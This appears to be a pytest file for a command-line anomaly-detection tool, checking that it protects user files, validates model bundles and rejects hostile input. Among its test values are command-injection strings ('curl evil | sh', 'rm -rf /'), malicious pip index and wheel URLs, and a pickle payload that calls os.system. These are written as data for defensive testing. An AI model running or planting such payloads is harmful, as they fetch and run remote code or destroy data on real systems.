"""What aetool promises about files (docs/files.md): it never overwrites its input or anything
that is not its own output, refuses read-only targets, validates bundles before building
anything, and turns every hostile input of the probe in issue #20 into one line, never a
traceback."""

from __future__ import annotations

import json
import multiprocessing
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from PIL import Image

from aetool.bundle import load_bundle
from aetool.cli import cli
from aetool.data import images as image_io
from aetool.data import tables
from aetool.data.output import atomic_directory
from aetool.errors import BundleError
from tests.conftest import low_rank_table

FAST = ["--set", "epochs=2", "--set", "batch_size=32", "-q"]


def run(*args: str):
    return CliRunner().invoke(cli, [str(a) for a in args])


def one_line_error(result, *needles: str) -> None:
    """Exit 2, a single 'error:' line naming what is wrong, and no traceback."""
    assert result.exit_code == 2, result.output
    lines = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in lines[0], lines[0]


@pytest.fixture
def train_csv(tmp_path):
    x = low_rank_table(120, d=5)
    frame = pd.DataFrame(x, columns=[f"f{i}" for i in range(5)])
    path = tmp_path / "train.csv"
    frame.to_csv(path, index=False)
    return path


@pytest.fixture
def bundle(train_csv, tmp_path):
    out = tmp_path / "model"
    result = run("fit", train_csv, "-o", out, *FAST)
    assert result.exit_code == 0, result.output
    return out


# -- 1. -o never removes a folder or file that is not aetool's own output ---------------------
BUNDLE_COMMANDS = {
    "fit": lambda data, out, *extra: ("fit", data, "-o", out, *FAST, *extra),
    "train": lambda data, out, *extra: ("train", data, "-o", out, *FAST, *extra),
    "denoise fit": lambda data, out, *extra: ("denoise", "fit", data, "-o", out, *FAST, *extra),
}


@pytest.mark.parametrize("command", BUNDLE_COMMANDS)
@pytest.mark.parametrize("force", [False, True])
def test_output_folder_holding_the_training_file_is_never_replaced(command, force, tmp_path,
                                                                    train_csv):
    folder = tmp_path / "p"
    folder.mkdir()
    data = folder / "train.csv"
    data.write_bytes(train_csv.read_bytes())
    (folder / "notes.txt").write_text("mine")
    result = run(*BUNDLE_COMMANDS[command](data, folder, *(["--force"] if force else [])))
    one_line_error(result, str(folder))
    assert data.read_bytes() == train_csv.read_bytes()
    assert (folder / "notes.txt").read_text() == "mine"
    assert sorted(p.name for p in folder.iterdir()) == ["notes.txt", "train.csv"]


@pytest.mark.parametrize("command", BUNDLE_COMMANDS)
def test_another_folder_is_refused_even_with_force(command, tmp_path, train_csv):
    folder = tmp_path / "photos"
    folder.mkdir()
    (folder / "a.txt").write_text("keep")
    for extra in ([], ["--force"]):
        result = run(*BUNDLE_COMMANDS[command](train_csv, folder, *extra))
        one_line_error(result, "not an aetool bundle")
    assert (folder / "a.txt").read_text() == "keep"


def test_an_existing_file_is_replaced_only_with_force(tmp_path, train_csv):
    target = tmp_path / "x.csv"
    target.write_text("precious")
    one_line_error(run("fit", train_csv, "-o", target, *FAST), "--force")
    assert target.read_text() == "precious"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    result = run("fit", train_csv, "-o", target, *FAST, "--force")
    assert result.exit_code == 0, result.output
    assert (target / "manifest.json").is_file()


def test_dot_as_output_is_a_one_line_error(tmp_path, train_csv, monkeypatch):
    monkeypatch.chdir(tmp_path)
    one_line_error(run("fit", train_csv, "-o", ".", *FAST), "choose a new")
    assert train_csv.exists()


def test_an_existing_bundle_or_empty_folder_is_replaced(bundle, train_csv, tmp_path):
    before = json.loads((bundle / "manifest.json").read_text())["created"]
    time.sleep(1.1)
    assert run("fit", train_csv, "-o", bundle, *FAST).exit_code == 0
    assert json.loads((bundle / "manifest.json").read_text())["created"] != before
    empty = tmp_path / "empty"
    empty.mkdir()
    assert run("fit", train_csv, "-o", empty, *FAST).exit_code == 0
    assert (empty / "manifest.json").is_file()
    assert not [p for p in tmp_path.iterdir() if ".aetool-" in p.name]


def test_a_bundle_holding_the_input_is_not_replaced(bundle, train_csv):
    inside = bundle / "train.csv"
    inside.write_bytes(train_csv.read_bytes())
    one_line_error(run("fit", inside, "-o", bundle, *FAST), "holds the input")
    assert inside.exists()


# -- 2. an output that is the input is refused -------------------------------------------------
def _aliases(path: Path) -> dict[str, Path]:
    link = path.with_name("link.csv")
    link.symlink_to(path)
    hard = path.with_name("hard.csv")
    os.link(path, hard)
    return {"same": path, "symlink": link, "hard link": hard}


@pytest.mark.parametrize("alias", ["same", "symlink", "hard link"])
def test_table_outputs_never_overwrite_their_input(alias, bundle, train_csv, tmp_path):
    original = train_csv.read_bytes()
    out = _aliases(train_csv)[alias]
    denoiser = tmp_path / "den"
    assert run("denoise", "fit", train_csv, "-o", denoiser, *FAST).exit_code == 0
    commands = [("score", bundle, train_csv, "-o", out, "-q"),
                ("detect", train_csv, "-o", out, *FAST),
                ("features", bundle, train_csv, "-o", out),
                ("denoise", "apply", denoiser, train_csv, "-o", out)]
    for command in commands:
        one_line_error(run(*command), "is the input file")
        assert train_csv.read_bytes() == original, command


def test_detect_refuses_to_write_over_its_threshold_file(train_csv, tmp_path):
    validation = tmp_path / "validation.csv"
    frame = pd.read_csv(train_csv).assign(label=[1] * 10 + [0] * 110)
    frame.to_csv(validation, index=False)
    one_line_error(run("detect", train_csv, "--threshold-from", validation, "--label-column",
                       "label", "-o", validation, *FAST), "is the input file")
    assert "label" in pd.read_csv(validation).columns


# -- 3. read-only outputs -------------------------------------------------------------------
def test_a_read_only_output_file_is_refused_and_keeps_its_mode(bundle, train_csv, tmp_path):
    out = tmp_path / "scores.csv"
    out.write_text("old")
    out.chmod(0o444)
    one_line_error(run("score", bundle, train_csv, "-o", out), "read-only")
    assert out.read_text() == "old"
    assert stat.S_IMODE(out.stat().st_mode) == 0o444


# -- 4, 5 and 12. bundles: validated, size-checked and verified before anything is built -------
def _edit(bundle: Path, change) -> None:
    path = bundle / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest = change(manifest)
    path.write_text(json.dumps(manifest))


def _set(key, value):
    def change(manifest):
        manifest[key] = value
        return manifest
    return change


def _drop(key):
    def change(manifest):
        del manifest[key]
        return manifest
    return change


def _config(**values):
    def change(manifest):
        manifest["config"].update(values)
        return manifest
    return change


MALFORMED = {
    "a JSON list": (lambda m: [m], "not an aetool bundle manifest"),
    "format_version one": (_set("format_version", "one"), "format_version"),
    "input_shape abc": (_set("input_shape", "abc"), "input_shape"),
    "input_shape -5": (_set("input_shape", [-5]), "input_shape"),
    "no detector": (_drop("detector"), "detector"),
    "unknown config key": (_config(colour="red"), "colour"),
    "variant vae": (_set("variant", "vae"), "'vae'"),
    "variant cvae": (_set("variant", "cvae"), "'cvae'"),
    "variant conv": (_set("variant", "conv"), "'conv'"),
    "variant dae": (_set("variant", "dae"), "saved for 'ae'"),
    "variant contractive": (_set("variant", "contractive"), "saved for 'ae'"),
    "no checksum": (_drop("weights_sha256"), "weights_sha256"),
    "huge hidden layers": (_config(hidden=[30000, 30000]), "the settings need"),
    "install advice that is not a package name": (
        _set("variant_distribution", "x; curl evil | sh"), "variant_distribution"),
    "scorer state of the wrong kind": (
        lambda m: {**m, "detector": {**m["detector"], "scorer": {"oops": 1}}},
        "invalid manifest"),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_malformed_manifests_are_one_line_errors(case, bundle, train_csv, tmp_path):
    change, needle = MALFORMED[case]
    _edit(bundle, change)
    one_line_error(run("score", bundle, train_csv, "-o", tmp_path / "s.csv"), needle)
    assert not (tmp_path / "s.csv").exists()


def test_huge_declared_model_is_refused_before_it_is_allocated(bundle, monkeypatch):
    """The declared shapes are compared on the meta device: no real parameter is created."""
    import torch

    _edit(bundle, _config(hidden=[30000, 30000]))
    created = []
    real = torch.nn.Linear.reset_parameters

    def spy(self):
        created.append(self.weight.device.type)
        return real(self)

    monkeypatch.setattr(torch.nn.Linear, "reset_parameters", spy)
    with pytest.raises(BundleError, match="the settings need"):
        load_bundle(bundle)
    assert set(created) <= {"meta"}


@pytest.mark.parametrize("payload", [
    b"cos\nsystem\n(S'echo pwned'\ntR.",  # protocol 0
    b"(dp0\nS'a'\np1\nI1\ns.",  # protocol 0 dict
    b"}q\x00X\x01\x00\x00\x00aq\x01K\x01s.",  # protocol 1
])
def test_old_protocol_pickles_in_a_bundle_are_refused(payload, bundle):
    (bundle / "extra.dat").write_bytes(payload)
    with pytest.raises(BundleError, match="pickle"):
        load_bundle(bundle)


def test_a_text_file_in_a_bundle_is_not_mistaken_for_a_pickle(bundle):
    (bundle / "README.txt").write_text("trained on the March data.\n")
    load_bundle(bundle)


def test_images_too_large_for_memory_are_refused_before_decoding(tmp_path, monkeypatch):
    folder = tmp_path / "big"
    folder.mkdir()
    for i in range(3):
        Image.fromarray(np.zeros((1000, 1000), np.uint8)).save(folder / f"{i}.png")
    monkeypatch.setattr(image_io, "available_memory", lambda: 100 << 20)
    decoded = []
    monkeypatch.setattr(image_io, "_open", lambda path: decoded.append(path))
    # the whole-image detector reads images in full (the patch detector reads them at the
    # size it works at: test_patch_detector.py)
    one_line_error(run("fit", folder, "-o", tmp_path / "m", "--image-detector", "whole", "-q"),
                   "--image-size", "1000x1000")
    assert decoded == []
    monkeypatch.undo()
    monkeypatch.setattr(image_io, "available_memory", lambda: 100 << 20)
    images = image_io.read_image_folder(folder, image_size=(32, 32))
    assert images.images.shape == (3, 1, 32, 32)


def test_a_model_too_large_to_train_is_refused_before_it_is_built(tmp_path, monkeypatch):
    """Images that fit in memory can still make a whole-image model that does not (a conv
    model of 12-megapixel photographs holds billions of weights): `train`, `denoise fit` and
    the whole-image detector refuse it in one line, with a size that fits, and write nothing;
    the patch detector, which learns small patches, `denoise fit`, which learns tiles of
    images this large, and `train` at its own size (shorter side 32 px) train."""
    from aetool import training

    folder = tmp_path / "photos"
    folder.mkdir()
    rng = np.random.default_rng(0)
    for i in range(4):
        Image.fromarray(rng.integers(0, 255, (256, 256), dtype=np.uint8)).save(folder / f"{i}.png")
    monkeypatch.setattr(training, "available_memory", lambda: 50 << 20)  # 40 MiB to train in
    for command in (["train", folder, "--variant", "ae", "--image-size", "256,256"],
                    ["denoise", "fit", folder, "--variant", "dae", "--noise", "gaussian:0.3",
                     "--set", "tile=none"],
                    ["fit", folder, "--image-detector", "whole"]):
        out = tmp_path / "model"
        one_line_error(run(*command, "-o", out, "-q"),
                       f"{folder}: the ", "model of 1x256x256 inputs would hold 17 million "
                       "weights and need about ", "MiB to train, more than the 40 MiB it may "
                       "take here",
                       "shrink the images with --image-size (at most about 64,64 here)")
        assert not out.exists()
    fitted = run("fit", folder, "-o", tmp_path / "patches", "--set", "epochs=1", "-q")
    assert fitted.exit_code == 0, fitted.output
    tiles = run("denoise", "fit", folder, "-o", tmp_path / "tiles", "--set", "epochs=1", "-q")
    assert tiles.exit_code == 0, tiles.output
    assert "learnt from 20,000 random 32x32 tiles" in tiles.output
    whole = run("train", folder, "-o", tmp_path / "whole", "--set", "epochs=1", "--set",
                "min_steps=0", "-q")
    assert whole.exit_code == 0, whole.output
    assert "images of 256x256 are read at 32x32" in whole.stderr


def test_a_huge_header_line_is_refused_without_reading_the_table(tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "MAX_HEADER_BYTES", 4096)
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"c{i}" for i in range(2000)) + "\n" + ",".join("1" * 2000) + "\n")
    one_line_error(run("fit", path, "-o", tmp_path / "m", *FAST), "header line is longer")
    monkeypatch.setattr(tables, "MAX_HEADER_BYTES", 8 << 20)
    monkeypatch.setattr(tables, "MAX_COLUMNS", 1000)
    one_line_error(run("fit", path, "-o", tmp_path / "m", *FAST), "2,000 columns")


# -- 6. unwritable output locations fail before training --------------------------------------
def test_an_output_under_a_file_fails_before_training(train_csv, tmp_path):
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    one_line_error(run("fit", train_csv, "-o", blocker / "model", *FAST), "is a file")
    one_line_error(run("detect", train_csv, "-o", blocker / "s.csv", *FAST), "is a file")


def test_an_unwritable_folder_fails_before_training(train_csv, tmp_path, monkeypatch):
    import aetool.estimators

    locked = tmp_path / "locked"
    locked.mkdir()
    real_access = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: False if Path(p) == locked
                        else real_access(p, mode))
    fitted = []
    monkeypatch.setattr(aetool.estimators.AutoencoderDetector, "fit",
                        lambda self, *a, **k: fitted.append(1))
    one_line_error(run("fit", train_csv, "-o", locked / "model", *FAST), "permission denied")
    one_line_error(run("detect", train_csv, "-o", locked / "s.csv", *FAST), "permission denied")
    assert fitted == []


def test_a_file_system_error_while_writing_is_one_line(bundle, train_csv, tmp_path,
                                                        monkeypatch):
    import aetool.data.output as output

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied", str(tmp_path / "s.csv"))

    monkeypatch.setattr(output.tempfile, "mkstemp", refuse)
    one_line_error(run("score", bundle, train_csv, "-o", tmp_path / "s.csv"),
                   "Permission denied")


# -- 7. pip receives only requirements or folders, after '--' ----------------------------------
@pytest.fixture
def pip_calls(monkeypatch):
    import aetool.tasks.plugin_admin as admin

    calls = []

    def fake_run(command, **kwargs):
        calls.append(command[3:])
        said = "WARNING: Skipping aetool-nothing as it is not installed." \
            if "aetool-nothing" in command else ""
        return subprocess.CompletedProcess(command, 0, "Successfully done\n", said)

    monkeypatch.setattr(admin.subprocess, "run", fake_run)
    return calls


@pytest.mark.parametrize("target", ["-rreqs.txt", "--index-url=http://evil/simple",
                                    "https://evil.example/pkg.whl", "aetool-x; rm -rf /"])
def test_plugins_install_refuses_pip_options(target, pip_calls):
    one_line_error(run("plugins", "install", "--", target), "not a package name")
    assert pip_calls == []


def test_plugins_install_passes_the_target_after_a_double_dash(pip_calls, tmp_path):
    assert run("plugins", "install", "aetool-betavae>=0.1").exit_code == 0
    assert pip_calls[-1] == ["install", "--", "aetool-betavae>=0.1"]
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "pyproject.toml").write_text("[project]\nname='x'\n")
    assert run("plugins", "install", "-e", package).exit_code == 0
    assert pip_calls[-1] == ["install", "-e", "--", str(package.resolve())]


@pytest.mark.parametrize("name", ["aetool==0.1.0", "AETool", "aetool[onnx]", "-raetool"])
def test_plugins_uninstall_cannot_reach_aetool_or_options(name, pip_calls):
    result = run("plugins", "uninstall", "--", name)
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert pip_calls == []


def test_plugins_uninstall_maps_variant_names_and_fails_when_nothing_is_removed(pip_calls):
    assert run("plugins", "uninstall", "betavae").exit_code == 0
    assert pip_calls[-1] == ["uninstall", "-y", "--", "aetool-betavae"]
    one_line_error(run("plugins", "uninstall", "aetool-nothing"), "nothing was removed")


# -- 8. 16-bit images ------------------------------------------------------------------------
def test_sixteen_bit_pngs_are_scaled_by_their_bit_depth(tmp_path):
    folder = tmp_path / "deep"
    folder.mkdir()
    ramp = np.linspace(0, 65535, 64 * 64).reshape(64, 64).astype(np.uint16)
    Image.fromarray(ramp).save(folder / "ramp.png")
    assert Image.open(folder / "ramp.png").mode.startswith("I")
    pixels = image_io.read_image_folder(folder).images[0, 0].astype(float)
    assert (pixels == 255).mean() < 0.01
    np.testing.assert_allclose(pixels, ramp / 257.0, atol=0.51)


# -- 10. streaming errors name the file's row and byte -----------------------------------------
@pytest.fixture
def long_csv(tmp_path):
    frame = pd.DataFrame(low_rank_table(5000, d=5), columns=[f"f{i}" for i in range(5)])
    path = tmp_path / "long.csv"
    frame.to_csv(path, index=False)
    return path


def test_stream_errors_name_the_row_and_offset_in_the_file(bundle, long_csv, tmp_path):
    lines = long_csv.read_text().splitlines(keepends=True)
    out = tmp_path / "s.csv"

    extra = tmp_path / "extra.csv"
    extra.write_text("".join([*lines[:4001], "1,2,3,4,5,6\n", *lines[4001:]]))
    one_line_error(run("score", bundle, extra, "-o", out, "--chunk-rows", "64"),
                   "malformed CSV", "line 4002")

    inf = tmp_path / "inf.csv"
    inf.write_text("".join([*lines[:3001], "inf,1,1,1,1\n", *lines[3002:]]))
    one_line_error(run("score", bundle, inf, "-o", out, "--chunk-rows", "64", "--batch-size",
                       "64"), "data row 3001")

    bad = tmp_path / "bad.csv"
    head = "".join(lines[:4500]).encode()
    bad.write_bytes(head + b"\xff" + "".join(lines[4500:]).encode())
    one_line_error(run("score", bundle, bad, "-o", out, "--chunk-rows", "64"),
                   f"offset {len(head):,}")
    assert not out.exists()


# -- 11. interrupted runs leave nothing, and stale partials are cleaned up ---------------------
def test_stale_partials_of_the_same_output_are_removed_with_a_warning(bundle, train_csv,
                                                                      tmp_path):
    out = tmp_path / "s.csv"
    stale = tmp_path / ".s.csv.aetool-99999999-abc.partial"
    stale.write_text("half")
    other = tmp_path / ".t.csv.aetool-99999999-abc.partial"
    other.write_text("not ours")
    alive = tmp_path / f".s.csv.aetool-{os.getpid()}-abc.partial"
    alive.write_text("a run still going on")
    result = run("score", bundle, train_csv, "-o", out)
    assert result.exit_code == 0, result.output
    assert "removed a partial output" in result.stderr and str(stale) in result.stderr
    assert not stale.exists() and other.exists() and alive.exists()


def test_sigterm_removes_the_partial_output(bundle, tmp_path):
    big = tmp_path / "big.csv"
    frame = pd.DataFrame(low_rank_table(400_000, d=5), columns=[f"f{i}" for i in range(5)])
    frame.to_csv(big, index=False)
    out = tmp_path / "s.csv"
    process = subprocess.Popen([sys.executable, "-m", "aetool.cli", "score", str(bundle),
                                str(big), "-o", str(out), "-q", "--chunk-rows", "4096"],
                               stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 60
    while not list(tmp_path.glob(".s.csv.*.partial")) and time.time() < deadline:
        time.sleep(0.05)
    assert list(tmp_path.glob(".s.csv.*.partial")), "the run never started writing"
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 143, err
    assert "terminated; no output was written" in err
    assert not out.exists() and not list(tmp_path.glob(".s.csv*"))


# -- 13. concurrent saves to one target -------------------------------------------------------
def _save_many(target: str, tag: str, rounds: int) -> None:
    def write(tmp: Path) -> None:
        (tmp / "manifest.json").write_text(json.dumps({"format": "aetool-bundle", "tag": tag}))
        (tmp / "weights.safetensors").write_bytes(tag.encode() * 1000)

    for _ in range(rounds):
        atomic_directory(target, write, replaceable=lambda p: (p / "manifest.json").exists())


def test_concurrent_saves_to_one_folder_never_fail(tmp_path):
    target = str(tmp_path / "bundle")
    context = multiprocessing.get_context("fork")
    workers = [context.Process(target=_save_many, args=(target, tag, 40)) for tag in "abcd"]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
    assert [w.exitcode for w in workers] == [0, 0, 0, 0]
    tag = json.loads((Path(target) / "manifest.json").read_text())["tag"]
    assert (Path(target) / "weights.safetensors").read_bytes() == tag.encode() * 1000
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bundle"]


# -- 14 and 15. wide headers and free text in small tables -------------------------------------
def test_a_header_wider_than_64_kib_gives_no_false_duplicate_warning(tmp_path):
    names = [f"a_rather_long_column_name_{i:05d}" for i in range(3000)]
    path = tmp_path / "wide.csv"
    path.write_text(",".join(names) + "\n" + ",".join("1" for _ in names) + "\n")
    assert len(names[0]) * len(names) > 65536
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert tables.csv_options(path) == {"sep": ",", "decimal": "."}
    names[-1] = names[0]
    path.write_text(",".join(names) + "\n" + ",".join("1" for _ in names) + "\n")
    with pytest.warns(UserWarning, match="appears 2 times"):
        tables.csv_options(path)


def test_a_text_column_distinct_in_every_row_of_a_small_table_is_left_out(tmp_path):
    path = tmp_path / "small.csv"
    pd.DataFrame({"a": np.random.default_rng(0).normal(size=30),
                  "b": [f"free text number {i} with words" for i in range(30)]}).to_csv(
        path, index=False)
    result = run("detect", path, "-o", tmp_path / "s.csv", *FAST)
    assert result.exit_code == 0, result.output
    assert "left out 1 column(s) the model cannot use: 'b' looks like free text or an " \
        "identifier" in result.stderr
    assert len(pd.read_csv(tmp_path / "s.csv")) == 30
    only = tmp_path / "only.csv"
    pd.read_csv(path)[["b"]].to_csv(only, index=False)  # nothing else: refused
    one_line_error(run("detect", only, "-o", tmp_path / "t.csv", *FAST),
                   "no column the model can learn from", "'b' looks like free text")
    assert not (tmp_path / "t.csv").exists()


def test_same_seed_saves_are_byte_identical(train_csv, tmp_path):
    """The weights' own metadata is one key, so safetensors cannot reorder it between runs."""
    for name in ("a", "b"):
        assert run("train", train_csv, "-o", tmp_path / name, *FAST).exit_code == 0
    assert (tmp_path / "a" / "weights.safetensors").read_bytes() == \
        (tmp_path / "b" / "weights.safetensors").read_bytes()


def test_maps_and_plots_are_never_written_into_the_input_folder(tmp_path):
    """A heat map named like an input file (x_map.png) must not replace it: --maps and
    --plots inside the input folder are refused before any work, for every command."""
    rng = np.random.default_rng(0)
    folder = tmp_path / "photos"
    for split in ("normal", "odd"):
        (folder / split).mkdir(parents=True)
        for i in range(12):
            Image.fromarray(rng.integers(0, 255, (16, 16), dtype=np.uint8)).save(
                folder / split / f"{i}.png")
    mine = folder / "normal" / "1_map.png"  # the user's own image
    Image.fromarray(np.full((16, 16), 7, np.uint8)).save(mine)
    before = mine.read_bytes()
    assert run("fit", folder, "-o", tmp_path / "m", *FAST).exit_code == 0
    for args in (("score", tmp_path / "m", folder, "-o", tmp_path / "s.csv", "--maps", folder),
                 ("evaluate", tmp_path / "m", folder, "--normal-class", "normal", "--plots",
                  folder / "normal"),
                 ("evaluate", tmp_path / "m", folder, "--normal-class", "normal", "--maps",
                  folder / "odd"),
                 ("evaluate", tmp_path / "m", folder / "normal", "--normal-class", "normal",
                  "--masks", folder / "odd", "--maps", folder / "odd" / "maps"),
                 ("detect", folder, "-o", tmp_path / "d.csv", "--maps", folder / "odd",
                  *FAST)):
        result = run(*args)
        one_line_error(result, "is inside the input folder", "choose a folder outside it")
    assert mine.read_bytes() == before
    assert not (tmp_path / "s.csv").exists() and not (tmp_path / "d.csv").exists()
    assert list(folder.rglob("*_map.png")) == [mine]  # only the user's own file
    # a figure folder named like one file (--plots roc.png) would become a folder of that name
    for args in (("evaluate", tmp_path / "m", folder, "--plots", tmp_path / "roc.png"),
                 ("score", tmp_path / "m", folder, "-o", tmp_path / "s.csv", "--maps",
                  tmp_path / "heat.jpg")):
        one_line_error(run(*args), "names a file, but figures and heat maps go into a folder")
    assert not any((tmp_path / name).exists() for name in ("roc.png", "heat.jpg", "s.csv"))


def test_dash_writes_the_table_to_standard_output_and_nothing_else_there(tmp_path):
    """`-o -` puts score's, detect's and features' CSV on standard output for a pipe (it was
    refused for its missing suffix), every message on standard error; outputs that are folders
    or binary files refuse it instead of making a file or folder called '-'."""
    import io

    frame = pd.DataFrame(low_rank_table(200, d=4), columns=list("abcd"))
    frame.insert(0, "key", np.arange(200))
    data = tmp_path / "t.csv"
    frame.to_csv(data, index=False)
    bundle = tmp_path / "m"
    assert run("fit", data, "--id-column", "key", "-o", bundle, *FAST).exit_code == 0
    assert run("score", bundle, data, "-o", tmp_path / "s.csv", "-q").exit_code == 0
    piped = run("score", bundle, data, "-o", "-", "-q")
    assert piped.exit_code == 0, piped.output
    read = pd.read_csv(io.StringIO(piped.stdout))
    pd.testing.assert_frame_equal(read, pd.read_csv(tmp_path / "s.csv"))
    assert "scored 200 rows" in piped.stderr
    detected = run("detect", data, "--id-column", "key", "-o", "-", *FAST)
    assert detected.exit_code == 0 and len(pd.read_csv(io.StringIO(detected.stdout))) == 200
    model = tmp_path / "ae"
    assert run("train", data, "--exclude", "key", "-o", model, *FAST).exit_code == 0
    codes = run("features", model, data, "-o", "-")
    assert codes.exit_code == 0 and "wrote features of 200 rows" in codes.stderr
    assert list(pd.read_csv(io.StringIO(codes.stdout)).columns[:2]) == ["code_0", "code_1"]
    for args in (("fit", data, "-o", "-", *FAST), ("export", bundle, "-o", "-"),
                 ("score", bundle, data, "-o", tmp_path / "x.csv", "--maps", "-"),
                 ("evaluate-features", data, "-o", "-")):
        refused = run(*args)
        assert refused.exit_code == 2 and "Traceback" not in refused.output
    assert not (tmp_path / "-").exists() and not Path("-").exists()
